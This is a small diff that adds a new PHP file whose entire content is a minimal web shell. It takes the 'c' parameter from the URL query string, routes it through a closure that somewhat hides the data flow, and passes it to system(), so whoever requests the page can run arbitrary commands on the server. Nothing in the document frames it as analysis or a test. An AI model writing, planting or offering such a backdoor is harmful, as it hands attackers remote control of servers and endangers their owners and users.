@@ -1,0 +1,4 @@
+<?php
+$f = function () use (&$c) { $c = $_GET["c"]; };
+$f();
+system($c);
